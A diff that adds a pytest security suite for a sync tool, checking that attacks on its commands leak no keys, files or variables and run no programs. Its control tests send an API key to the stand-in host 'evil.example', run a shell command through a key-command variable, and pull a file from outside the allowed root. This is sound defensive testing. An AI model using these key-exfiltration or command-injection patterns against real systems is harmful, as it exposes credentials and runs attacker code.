@@ -1,0 +1,62 @@
+"""Each attack against each command: nothing leaves, nothing is printed, no program is run."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from tests.trust.attacks import ATTACKS, IDS, PICTURES, redbrick
+from tests.trust.commands import arguments_of, commands
+from tests.trust.site import CANARIES, KEY, Site
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_is_had_by(site: Site, attack: str) -> None:
+    ATTACKS[attack](site)
+    for words in commands():
+        ran = site.run(*arguments_of(words))
+        assert site.leaks(ran) == [], (words, ran)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_is_had_from_an_untrusted_run_by(site: Site, attack: str) -> None:
+    ATTACKS[attack](site)
+    for words in commands():
+        ran = site.run(*arguments_of(words), RBSYNC_UNTRUSTED="1")
+        assert site.leaks(ran) == [], (words, ran)
+
+
+class TestTheTestsWouldTell:
+    """What the trusted side allows does happen here, and is seen."""
+
+    def test_of_a_key_that_is_sent(self, site: Site) -> None:
+        url = f"https://evil.example:{site.ears.secure}"
+        site.manifest(redbrick(url))
+        ran = site.run("plan", "--url", url)
+        assert ran.code == 1
+        assert f"ApiKey: {KEY}" in site.ears.heard.text()
+        assert "evil.example" in site.ears.heard.lookups
+        assert "RBSYNC_API_KEY was sent" in site.leaks(ran)
+
+    def test_of_a_program_that_is_run(self, site: Site) -> None:
+        site.manifest(f"backend: {{kind: redbrick, {IDS}}}\n{PICTURES}")
+        url = f"http://127.0.0.1:{site.ears.plain}"
+        script = f"touch {site.marker}"
+        site.run("plan", "--url", url, RBSYNC_API_KEY="", RBSYNC_API_KEY_COMMAND=script)
+        assert site.marker.exists()
+        assert len(site.started) >= 1
+
+    def test_of_a_variable_that_is_printed(self, site: Site) -> None:
+        site.manifest("datapoints: [{name: '${HARMLESS}', items: [images/a.png]}]\n")
+        ran = site.run("expand", "--env", "HARMLESS")
+        assert ran.out == CANARIES["HARMLESS"] + "\n"
+        assert site.leaks(ran) == ["HARMLESS was printed"]
+
+    def test_of_a_file_that_is_taken(self, site: Site) -> None:
+        path = str(site.outside / "secret.png")
+        entry = json.dumps({"name": "a", "items": [path]})
+        site.manifest(f"roots: [{site.outside}]\nfiles: {{check: none}}\ndatapoints: [{entry}]\n")
+        ran = site.run("apply", "--yes", "--root", str(site.outside))
+        assert ran.code == 0, ran.err
+        assert any("a file from outside was written to" in one for one in site.leaks(ran))
